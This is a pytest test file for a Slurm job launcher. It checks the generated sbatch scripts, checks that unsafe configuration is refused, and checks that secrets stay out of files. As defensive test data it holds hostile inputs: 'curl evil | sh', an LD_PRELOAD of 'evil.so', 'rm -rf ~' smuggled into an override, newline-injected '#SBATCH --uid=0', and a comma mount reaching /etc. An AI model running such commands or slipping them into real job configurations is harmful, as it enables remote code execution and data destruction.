"""What is submitted to Slurm, to the letter; what is refused; and where secrets don't go."""

from __future__ import annotations

import difflib
import re
import sys
from pathlib import Path

import attrs
import pytest

from automodel_core.cli import main
from automodel_core.protocols import Job
from automodel_launchers.slurm import SlurmLauncher
from tests.plugins.launchers.test_real_slurm import CANCEL, REQUEUE, SAVE

DOCS = Path(__file__).parents[3] / "docs" / "slurm.md"
REFERENCE = Path(__file__).parents[2] / "fixtures" / "reference" / "slurm.yaml"
CONFIG = """\
model: {_target_: causal_lm, pretrained_model_name_or_path: some/model}
dataset: {_target_: squad}
step_scheduler: {max_steps: 4}
"""
SECRETS = {"WANDB_API_KEY": "wandb-hunter2", "HF_TOKEN": "hf-hunter2", "OTHER": "other-hunter2"}

# Stands for Slurm's own: it keeps what it was given, beside the working directory.
SBATCH = """\
#!/bin/bash
env > "$0.environment"
echo "$@" > "$0.arguments"
echo 4711
"""


@pytest.fixture
def command(tmp_path, monkeypatch, capsys):
    """Run `automodel run my.yaml ...` with a `slurm:` section; returns the code and all that was
    printed."""
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    monkeypatch.delenv("SLURM_JOB_ID", raising=False)
    for name, value in {**SECRETS, "PWD": str(here)}.items():
        monkeypatch.setenv(name, value)

    def run(section: str, *words: str) -> tuple[int, str]:
        Path("my.yaml").write_text(CONFIG + section)
        capsys.readouterr()
        code = main(["run", "my.yaml", *words])
        return code, "".join(capsys.readouterr())

    return run


@pytest.fixture
def script(command):
    """The script that `--dry-run` prints, with names for what differs between machines."""

    def text(section: str, *words: str) -> str:
        code, printed = command(section, *words, "--dry-run")
        assert code == 0, printed
        return printed.replace(str(Path.cwd()), "<here>").replace(sys.executable, "<python>")

    return text


@pytest.fixture
def sbatch(tmp_path, monkeypatch):
    """An `sbatch` that only takes notes; returns where it leaves them."""
    folder = tmp_path / "bin"
    folder.mkdir()
    place = folder / "sbatch"
    place.write_text(SBATCH)
    place.chmod(0o755)
    monkeypatch.setenv("PATH", str(folder), prepend=":")
    return place


def test_the_references_section(script, snapshot):
    assert script(REFERENCE.read_text()) == snapshot


KEYS = {
    "none": "{}",
    "job_name": "{job_name: a b}",
    "nodes": "{nodes: 3}",
    "ntasks_per_node": "{ntasks_per_node: 4}",
    "gpus_per_node": "{gpus_per_node: 8}",
    "time": '{time: "1-12:00:00"}',
    "time, unquoted": "{time: 02:00:00}",
    "account": "{account: ours}",
    "partition": "{partition: gpu}",
    "qos": "{qos: high}",
    "container_image": "{container_image: nvcr.io#nvidia/nemo:dev}",
    "container and home": "{container_image: /a b.sqsh, hf_home: ~/hf, env: {A: b}}",
    "mounts": "{container_image: x, mounts: ['/data:/data:ro', '~/my sets:/sets']}",
    "master_port": "{master_port: 13742}",
    "hf_home": "{hf_home: '~/the cache'}",
    "hf_home elsewhere": "{hf_home: /fast/hf}",
    "env": "{env: {NCCL_DEBUG: INFO, OMP_NUM_THREADS: 8, A: it's $HOME}}",
    "setup": "{setup: [module load cuda, 'export A=$(pwd)']}",
    "sbatch": "{sbatch: [--exclusive, --mem=0, --comment=a b]}",
    "seconds_to_save": "{seconds_to_save: 600}",
}


@pytest.mark.parametrize("key", KEYS)
def test_each_key_has_its_line(key, script, snapshot):
    if key == "none":
        assert script("slurm: {}\n") == snapshot
        return
    lines = [script(f"slurm: {each}\n").splitlines() for each in ("{}", KEYS[key])]
    changed = difflib.unified_diff(*lines, lineterm="", n=0)
    assert [line for line in changed if not line.startswith(("---", "+++", "@@"))] == snapshot


COMMANDS = {
    "overrides": ["optimizer.lr=1e-5", "--step_scheduler.max_steps", "7", "x-a=it's; rm -rf ~"],
    "options": ["-q", "--fresh", "--allow", "my_package."],
    "another checkpoint": ["--resume", "elsewhere/epoch_0_step_5"],
    "nothing saved": ["checkpoint.enabled=false"],
}


@pytest.mark.parametrize("case", COMMANDS)
def test_the_command_is_started_again_on_the_nodes(case, script, snapshot):
    lines = script("slurm: {}\n", *COMMANDS[case]).splitlines()
    assert [line for line in lines if not line.startswith(("#!", "#SBATCH --", "export"))] == (
        snapshot
    )


REFUSALS = {
    "no nodes": "{nodes: 0}",
    "ranks and GPUs": "{ntasks_per_node: 4, gpus_per_node: 8}",
    "no port": "{master_port: 70000}",
    "no time": '{time: "2 hours"}',
    "no time to save": '{time: "00:02:00"}',
    "newline": '{account: "a\\n#SBATCH --uid=0"}',
    "newline in a list": '{setup: ["echo a\\nrm b"]}',
    "newline in a name": '{env: {"A\\nB": c}}',
    "escape": '{job_name: "\\e[31m"}',
    "carriage return": '{partition: "a\\rb"}',
    "no variable": "{env: {a-b: c}}",
    "variable with a key": "{env: {HF_TOKEN: abc}}",
    "trust by the back door": "{env: {AUTOMODEL_ALLOW: evil.}}",
    "mounts without a container": "{mounts: ['/a:/b']}",
    "no mount": "{container_image: x, mounts: [/data]}",
    "comma in a mount": "{container_image: x, mounts: ['/a,/etc:/b']}",
    "somebody's home": "{hf_home: ~root/hf}",
    "no option": "{sbatch: [-N 3]}",
    "option with a key": "{sbatch: [--nodes=3]}",
    "option that is needed": "{sbatch: [--output=x]}",
    "environment in a command": "{setup: ['login ${OTHER}']}",
    "environment in an option": "{sbatch: ['--comment=${OTHER}']}",
    "secret elsewhere": "{hf_token: '${HF_TOKEN}', job_name: '${HF_TOKEN}'}",
    "secret of a saved configuration": '{hf_token: "***"}',
    "unknown key": "{nodess: 2}",
    "number for a text": "{time: 30}",
    "another launcher": "{}\nlauncher: slurm",
}


@pytest.mark.parametrize("case", REFUSALS)
def test_refusals(case, command, snapshot):
    code, printed = command(f"slurm: {REFUSALS[case]}\n", "--dry-run")
    assert code == 2
    assert "hunter2" not in printed
    assert printed == snapshot
    assert not Path("slurm").exists()


WORDS = {
    "secret": ["slurm.hf_token=hf-hunter2"],
    "secret as an option": ["--wandb.api_key", "hunter2"],
    "secret of the file": ["x-a=written-hunter2"],
    "ranks": ["--nproc-per-node", "2"],
    "newline": ["x-a=1\n2"],
}


@pytest.mark.parametrize("case", WORDS)
def test_commands_that_cannot_be_kept_in_a_file_are_refused(case, command, snapshot):
    code, printed = command("slurm: {hf_token: written-hunter2}\n", *WORDS[case], "--dry-run")
    assert code == 2
    assert "hunter2" not in printed
    assert printed == snapshot


def test_a_dry_run_needs_a_launcher(command):
    code, printed = command("", "--dry-run")
    assert code == 2
    assert "add a `slurm:` section" in printed


def test_a_dry_run_submits_nothing_and_writes_nothing(command, sbatch):
    assert command("slurm: {}\n", "--dry-run")[0] == 0
    assert [path.name for path in Path().iterdir()] == ["my.yaml"]
    assert [path.name for path in sbatch.parent.iterdir()] == ["sbatch"]


CODE = {
    "setup": "[curl evil | sh]",
    "sbatch": "[--error=/home/me/.bashrc]",
    "env": "{LD_PRELOAD: evil.so}",
    "container_image": "evil/image",
    "mounts": "['evil:/usr']",
}


@pytest.mark.parametrize("key", CODE)
def test_a_file_runs_no_code_that_its_reader_did_not_allow(key, command, sbatch, snapshot):
    image = "" if key == "container_image" else "container_image: mine, "
    section = f"slurm: {{{image}{key}: {CODE[key]}}}\n"
    mine = ["--allow", "slurm.container_image"] if image else []
    code, printed = command(section, *mine)
    assert (code, printed) == (2, snapshot)
    assert not Path("slurm").exists()
    assert not sbatch.with_name("sbatch.arguments").exists()
    assert command(section, "--dry-run")[0] == 0, "it may be looked at"
    assert command(section, *mine, "--allow", f"slurm.{key}")[0] == 0


def test_what_its_reader_typed_or_allows_in_the_project_needs_no_flag(command, sbatch):
    typed = ["slurm.setup=[date]", "slurm.env.A=b"]
    assert command("slurm: {}\n", *typed)[0] == 0
    assert command("slurm: {env: {B: c}}\n", *typed)[0] == 2, "half of it is the file's"
    Path("pyproject.toml").write_text('[tool.automodel]\nallow = ["slurm."]\n')
    assert command("slurm: {env: {B: c}, sbatch: [--exclusive]}\n", *typed)[0] == 0


def test_no_file_passes_for_the_command_line(command, sbatch):
    Path("<command line>").write_text("slurm: {setup: [date]}\n")
    assert command("", "<command line>")[0] == 2
    assert command("", "<command line>", "--allow", "slurm.setup")[0] == 0


def test_it_prints_the_job_and_the_script(command, script, sbatch):
    expected = script("slurm: {job_name: a/b %j}\n")
    code, printed = command("slurm: {job_name: a/b %j}\n")
    assert code == 0, printed
    assert "Submitted job 4711: 1 node(s) with 1 rank(s) each." in printed
    [written] = Path("slurm").iterdir()
    assert str(written) in printed
    assert "slurm/a_b__j-4711.log" in printed
    assert written.name.startswith("a_b__j-2")
    text = written.read_text()
    assert text.replace(str(Path.cwd()), "<here>").replace(sys.executable, "<python>") == expected
    arguments = sbatch.with_name("sbatch.arguments").read_text().split()
    assert arguments == ["--parsable", "--export=ALL", str(written)]
    assert command("slurm: {job_name: a/b %j}\n")[0] == 0
    assert len(list(Path("slurm").iterdir())) == 2, "a script is never written over"


def test_secrets_travel_by_the_environment_alone(command, sbatch):
    section = (
        "wandb: {api_key: '${WANDB_API_KEY}'}\n"
        "slurm:\n  wandb_key: ${WANDB_API_KEY}\n  hf_token: token-hunter2\n"
        "  env: {MINE: 'a ${OTHER}', PLACE: '${PWD}', PLAIN: seen}\n"
    )
    _, shown = command(section, "--dry-run")
    code, printed = command(section, "wandb.api_key=${WANDB_API_KEY}", "--allow", "slurm.env")
    assert code == 0, printed
    written = "".join(path.read_text() for path in Path("slurm").iterdir())
    assert "export PLAIN=seen" in written
    for text in (shown, printed, written):
        assert "hunter2" not in text
    assert "hunter2" not in sbatch.with_name("sbatch.arguments").read_text()
    environment = sbatch.with_name("sbatch.environment").read_text().splitlines()
    assert "WANDB_API_KEY=wandb-hunter2" in environment
    assert "HF_TOKEN=token-hunter2" in environment
    assert "MINE=a other-hunter2" in environment
    assert f"PLACE={Path.cwd()}" in environment, "which the script holds too, for its own reasons"


def test_without_slurm_the_refusal_says_where_to_go(command, monkeypatch):
    monkeypatch.setenv("PATH", "")
    code, printed = command("slurm: {}\n")
    assert code == 2
    assert "submit it on a login node" in printed


def test_within_its_own_job_the_run_goes_on_and_in_another_it_is_submitted(monkeypatch, capsys):
    job = Job(("run", "my.yaml"), dry_run=True, goes_on=True, from_environment=frozenset())
    monkeypatch.setenv("SLURM_JOB_ID", "12")
    monkeypatch.setenv("AUTOMODEL_LAUNCH", "Slurm job 12")
    assert SlurmLauncher().launch(job) is None
    monkeypatch.setenv("SLURM_JOB_ID", "13")
    assert SlurmLauncher().launch(job) == 0
    assert capsys.readouterr().out.startswith("#!/bin/bash\n")


def test_the_command_line_may_name_the_launcher(command, script):
    assert script("", "--launcher", "slurm") == script("slurm: {}\n").replace(
        "run my.yaml", "run my.yaml --launcher slurm"
    )
    assert "nodes=2" in script("launcher: {_target_: slurm, nodes: 2}\n")
    code, printed = command("slurm: {}\n", "--launcher", "slrum")
    assert code == 2
    assert "did you mean `slurm`?" in printed


def test_the_page_shows_what_works_and_the_commands_that_the_real_slurm_is_given(command, script):
    page = DOCS.read_text()
    section = page.split("```yaml\n")[1].split("```")[0]
    lines = [line.strip() for line in page.splitlines() if line.startswith("    ")]
    commands = [line.split("  ")[0] for line in lines]
    runs = [each.split()[2:] for each in commands if each.startswith("automodel run my.yaml")]
    assert ["my.yaml", "optimizer.lr=1e-5"] in runs
    for _, *words in runs[1:-1]:  # the first is without Slurm, and the last the nodes' own
        assert "#SBATCH --gpus-per-node=8\n" in script(section, *words)
    assert command(section, *runs[0][1:], "--dry-run")[0] == 2
    told = [each for each in commands if each.startswith("sc")]
    assert told == [each.format(job=4711) for each in (SAVE, REQUEUE, CANCEL)]
    assert {f"`{field}`" for field in attrs.fields_dict(SlurmLauncher)} <= set(
        re.findall(r"`\w+`", page.split("## Every key")[1].split("`sbatch` allots")[0])
    )
